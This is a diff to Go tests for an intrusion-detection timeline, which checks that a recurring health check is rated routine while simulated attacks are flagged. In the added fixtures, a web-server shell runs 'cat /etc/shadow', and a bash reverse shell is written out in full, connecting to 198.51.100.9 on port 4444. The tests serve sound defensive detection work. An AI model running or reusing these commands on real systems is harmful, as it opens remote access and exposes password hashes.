@@ -2,6 +2,7 @@ package timeline
 
 import (
 	"fmt"
+	"strings"
 	"testing"
 
 	"github.com/auditchain/auditchain/detect"
@@ -133,6 +134,14 @@ func TestRoutineAttackerRepeatingOneCommand(t *testing.T) {
 			}
 			return ids
 		}},
+		{"once just before the first suspicious act, then spread over the log", func(s *sim) []*detect.Finding {
+			ids := []*detect.Finding{id(s, 0, 18, "id")}
+			s.find(s.exec(20, shellOf(1900, worker1, "/var/www/html/admin"), "cat", "/etc/shadow"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential Read")
+			for i := 1; i < 50; i++ {
+				ids = append(ids, id(s, i, 22+float64(i)*5.5, "id"))
+			}
+			return ids
+		}},
 		{"spread over the whole log, the command in the request's parameter", func(s *sim) []*detect.Finding {
 			var ids []*detect.Finding
 			for i := 0; i < 50; i++ {
@@ -195,6 +204,26 @@ func TestRoutineAttackerRepeatingOneCommand(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestRoutineShortLogBeforeAttack: a capture that starts 25 s before the
+// intrusion (the lab's, lab-nginx's) has too little before its first
+// suspicious act for the health check to fill four slices there; having
+// run three times before it and gone on across the whole log, it is the
+// application's routine all the same.
+func TestRoutineShortLogBeforeAttack(t *testing.T) {
+	s := newSim(t, Options{})
+	health := routineScene(s)
+	s.find(s.exec(25, shellOf(1900, worker1, "/var/www/html/uploads"), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+	r := s.build()
+	for _, f := range health {
+		if sev := severityIn(t, r, f); sev != detect.SeverityLow {
+			t.Fatalf("health check at %s is %s, want low", f.Time, sev)
+		}
+	}
+	if len(r.Routine) != 1 || !strings.Contains(r.Routine[0].Why, "ran 3 times before the host's first suspicious act") {
+		t.Errorf("routine = %+v, want the health check, said to have run 3 times before the intrusion", r.Routine)
 	}
 }
 
